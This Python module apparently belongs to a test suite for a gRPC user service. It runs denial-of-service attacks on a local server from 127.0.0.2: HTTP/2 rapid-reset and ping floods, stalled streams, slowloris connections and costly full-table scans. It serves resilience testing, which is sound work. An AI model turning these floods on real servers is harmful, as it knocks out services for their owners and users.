"""Attacks on a server from a process of their own: `python -m userstream_testing.floods ATTACK PORT SCALE`.

Each comes from an address of its own (127.0.0.2), prints `at work` once it is, goes on until standard
input ends, and then says what it did. SCALE 1 is the full figure of each.
"""

import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

from userstream.v1 import user_service_pb2 as pb

from userstream_testing.http2 import RawClient

__all__ = ["ATTACKS"]

_SOURCE = "127.0.0.2"
_BURST = 50
_REQUEST = pb.StreamUsersRequest().SerializeToString()
_SCAN = pb.AverageAgeRequest(
    filter=pb.UserFilter(name_prefix="a", email_domain="nobody.example")
).SerializeToString()
_SCANS_PER_CONNECTION = 25


class _Flood:
    """What the attacks share: where, how much, and when to end."""

    def __init__(self, port: int, scale: float) -> None:
        self.port = port
        self.scale = scale
        self.over = threading.Event()

    def connect(self) -> RawClient:
        return RawClient(self.port, source=_SOURCE)


def _announce() -> None:
    sys.stdout.write("at work\n")
    sys.stdout.flush()


def rapid_reset(flood: _Flood) -> str:
    """Open streams and reset each in the same breath, as fast as the server takes them."""
    _announce()
    return _resets(flood, lambda _: flood.over.is_set())


def opened_and_cancelled(flood: _Flood) -> str:
    """Open and cancel 10,000 streams, each with a request."""
    most = round(10_000 * flood.scale)
    _announce()
    said = _resets(flood, lambda count: count >= most)
    flood.over.wait()
    return said


def _resets(flood: _Flood, enough: Callable[[int], bool]) -> str:
    count = hung_up = 0
    while not enough(count):
        try:
            with flood.connect() as client:
                while not enough(count):
                    client.send(b"".join(_open_and_reset(client) for _ in range(_BURST)))
                    count += _BURST
                    client.frames(0.001)  # what the server says must be read, or it would stop us
        except OSError:
            hung_up += 1
    return f"{count:,} streams opened and reset; hung up on {hung_up} times"


def _open_and_reset(client: RawClient) -> bytes:
    stream, data = client.call_bytes("StreamUsers", _REQUEST)
    return data + client.reset_bytes(stream)


def ping_flood(flood: _Flood) -> str:
    """Send pings as fast as the server takes them, and read no answer."""
    return _pings(flood, reading=False)


def answered_ping_flood(flood: _Flood) -> str:
    """Send pings as fast as the server answers them."""
    return _pings(flood, reading=True)


def _pings(flood: _Flood, *, reading: bool) -> str:
    _announce()
    count = hung_up = 0
    while not flood.over.is_set():
        try:
            with flood.connect() as client:
                while not flood.over.is_set():
                    for _ in range(_BURST):
                        client.ping()
                    count += _BURST
                    if reading:
                        client.frames(0.0001)
        except OSError:
            hung_up += 1
    return f"{count:,} pings; hung up on {hung_up} times"


def stalled(flood: _Flood) -> str:
    """Hold 1,000 streams open without ever taking what they send."""
    count = round(1000 * flood.scale)
    with ExitStack() as stack:
        clients = [stack.enter_context(flood.connect()) for _ in range(10)]
        for number in range(count):
            clients[number % 10].open_call("StreamUsers", _REQUEST)
        time.sleep(1 + 4 * flood.scale)  # until their windows are full
        _announce()
        flood.over.wait()
    return f"{count:,} streams stalled"


def slow_loris(flood: _Flood) -> str:
    """Hold 500 connections: a third silent, a third saying a byte now and then, a third without a request."""
    count = round(500 * flood.scale)
    with ExitStack() as stack:
        sockets = [
            stack.enter_context(
                socket.create_connection(("127.0.0.1", flood.port), 10, (_SOURCE, 0))
            )
            for _ in range(2 * count // 3)
        ]
        for _ in range(count // 3):
            client = stack.enter_context(flood.connect())
            client.open_call("StreamUsers")
        _announce()
        greeting = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        sent = 0
        while not flood.over.wait(0.2):
            for one in sockets[::2]:
                with suppress(OSError):
                    one.send(greeting[sent % 24 : sent % 24 + 1])
            sent += 1
    return f"{count:,} connections held"


def full_scans(flood: _Flood) -> str:
    """Keep 100 filtered AverageAge calls running, each of which reads the whole table."""
    count = round(100 * flood.scale)
    ended = [0] * -(-count // _SCANS_PER_CONNECTION)
    threads = [
        threading.Thread(target=_keep_scanning, args=(flood, ended, number, count))
        for number in range(len(ended))
    ]
    for thread in threads:
        thread.start()
    time.sleep(0.5)  # until every one of them has a connection to the database or waits for one
    _announce()
    for thread in threads:
        thread.join()
    return f"{count:,} scans at once, {sum(ended):,} ended"


def _keep_scanning(flood: _Flood, ended: list[int], number: int, count: int) -> None:
    """Keep one connection's share of the scans running."""
    mine = min(_SCANS_PER_CONNECTION, count - number * _SCANS_PER_CONNECTION)
    with flood.connect() as client:
        running = {client.open_call("AverageAge", _SCAN) for _ in range(mine)}
        while not flood.over.is_set():
            over = {f.stream for f in client.frames(0.02) if f.ends_stream} & running
            ended[number] += len(over)
            running -= over
            running |= {client.open_call("AverageAge", _SCAN) for _ in over}


ATTACKS = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        ping_flood,
        answered_ping_flood,
        opened_and_cancelled,
        stalled,
        slow_loris,
        full_scans,
    )
}


def main() -> None:
    """Run an attack."""
    _, name, port, scale = sys.argv
    flood = _Flood(int(port), float(scale))

    def end_with_input() -> None:
        sys.stdin.read()
        flood.over.set()

    threading.Thread(target=end_with_input, daemon=True).start()
    sys.stdout.write(ATTACKS[name](flood) + "\n")


if __name__ == "__main__":
    main()
